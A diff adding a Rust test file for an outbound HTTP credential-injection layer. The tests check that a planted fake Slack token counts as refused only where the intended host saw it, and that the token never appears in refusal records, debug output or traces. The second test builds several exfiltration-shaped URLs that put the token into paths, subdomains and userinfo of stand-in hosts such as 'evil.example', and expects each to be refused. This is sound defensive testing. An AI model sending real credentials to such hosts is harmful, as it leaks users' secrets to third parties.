@@ -1,0 +1,135 @@
+//! What the host sees of a token, and what nobody sees of it.
+
+use std::fmt::Write as _;
+
+use tracing::field::{Field, Visit};
+
+use super::{server::Server, *};
+use crate::provider::Placement;
+
+const TOKEN: &str = "xoxb-Planted-0123456789";
+
+fn credential(server: &Server) -> Credential {
+    Credential {
+        hosts: Arc::new([server.address.to_string()]),
+        placement: Some(Placement::Header {
+            name: "authorization".to_owned(),
+            prefix: "Bearer ".to_owned(),
+        }),
+        ..Credential::for_tests("SLACK_BOT_TOKEN", TOKEN)
+    }
+}
+
+#[tokio::test]
+async fn a_token_counts_as_refused_only_where_the_host_saw_it_sent() {
+    let (provider, other) = (Server::start().await, Server::start().await);
+    let shared = outbound(&policy(&[provider.origin(), other.origin()]));
+    let credential = credential(&provider);
+    let bearer = format!("Bearer {TOKEN}");
+    for (url, header, seen) in [
+        (provider.url("/status/401"), Some(bearer.as_str()), true),
+        (provider.url("/status/403"), Some(bearer.as_str()), false),
+        (provider.url("/status/401"), Some("Bearer another-token"), false),
+        (provider.url("/status/401"), None, false),
+        (other.url("/status/401"), Some(bearer.as_str()), false),
+    ] {
+        let mut call = shared.call_with(Some(&credential));
+        let mut request = http::Request::get(&url);
+        if let Some(header) = header {
+            request = request.header("authorization", header);
+        }
+        call.send(request, "").await.unwrap();
+        assert_eq!(call.ledger().totals().saw_unauthorized, seen, "{url} {header:?}");
+    }
+    let mut without = shared.call();
+    let request = http::Request::get(provider.url("/status/401")).header("authorization", &bearer);
+    without.send(request, "").await.unwrap();
+    assert!(!without.ledger().totals().saw_unauthorized);
+}
+
+/// Writes down whatever is traced.
+#[derive(Clone, Default)]
+struct Traced(Arc<Mutex<String>>);
+
+impl Visit for Traced {
+    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
+        let _ = write!(self.0.lock().unwrap(), " {field}={value:?}");
+    }
+}
+
+impl tracing::Subscriber for Traced {
+    fn enabled(&self, _: &tracing::Metadata<'_>) -> bool {
+        true
+    }
+
+    fn new_span(&self, span: &tracing::span::Attributes<'_>) -> tracing::span::Id {
+        let _ = write!(self.0.lock().unwrap(), "\n{}", span.metadata().name());
+        span.record(&mut self.clone());
+        tracing::span::Id::from_u64(1)
+    }
+
+    fn record(&self, _: &tracing::span::Id, values: &tracing::span::Record<'_>) {
+        values.record(&mut self.clone());
+    }
+
+    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}
+
+    fn event(&self, event: &tracing::Event<'_>) {
+        let _ = write!(self.0.lock().unwrap(), "\n{}", event.metadata().target());
+        event.record(&mut self.clone());
+    }
+
+    fn enter(&self, _: &tracing::span::Id) {}
+
+    fn exit(&self, _: &tracing::span::Id) {}
+}
+
+#[tokio::test]
+async fn a_planted_token_is_in_no_refusal_and_no_trace() {
+    let server = Server::start().await;
+    let traced = Traced::default();
+    let listening = tracing::subscriber::set_default(traced.clone());
+    let credential = credential(&server);
+    let mut rules = policy(&[server.origin(), "https://*.evil.example".to_owned()]);
+    rules.deny = vec!["https://denied.example".parse().unwrap()];
+    let mut call = outbound(&rules).call_with(Some(&credential));
+    let allowed = http::Request::get(server.url(&format!("/status/401?token={TOKEN}")))
+        .header("authorization", format!("Bearer {TOKEN}"));
+    text(call.send(allowed, TOKEN).await.unwrap()).await;
+    for url in [
+        format!("https://evil.example/{TOKEN}?{TOKEN}"),
+        format!("https://{TOKEN}.elsewhere.example/"),
+        format!("https://denied.example/a%2f{}", TOKEN.replace('-', "%2d")),
+        format!("ftp://evil.example/{TOKEN}"),
+        format!("https://{TOKEN}:{TOKEN}@evil.example/"),
+        format!("https://..{TOKEN}/"),
+    ] {
+        call.get(&url).await.unwrap_err();
+    }
+    // Allowed by name; it is nobody's, so it does not resolve, and its name is a trace.
+    let _ = call.prepare(
+        http::Request::get(format!("https://{TOKEN}.evil.example/"))
+            .body(
+                http_body_util::Empty::new()
+                    .map_err(|never| match never {})
+                    .boxed_unsync(),
+            )
+            .unwrap(),
+        None,
+    );
+    drop(listening);
+    let totals = call.ledger().totals();
+    assert_eq!(totals.refusals.len(), 6);
+    let traced = traced.0.lock().unwrap().clone();
+    assert!(
+        traced.contains("outbound request") && traced.contains("status=401"),
+        "{traced}"
+    );
+    let ours: String = traced
+        .lines()
+        .filter(|line| !line.starts_with("h2") && !line.starts_with("hyper"))
+        .collect();
+    for text in [format!("{totals:?}"), format!("{credential:?}"), ours, traced] {
+        assert!(!text.to_lowercase().contains("planted"), "{text}");
+    }
+}
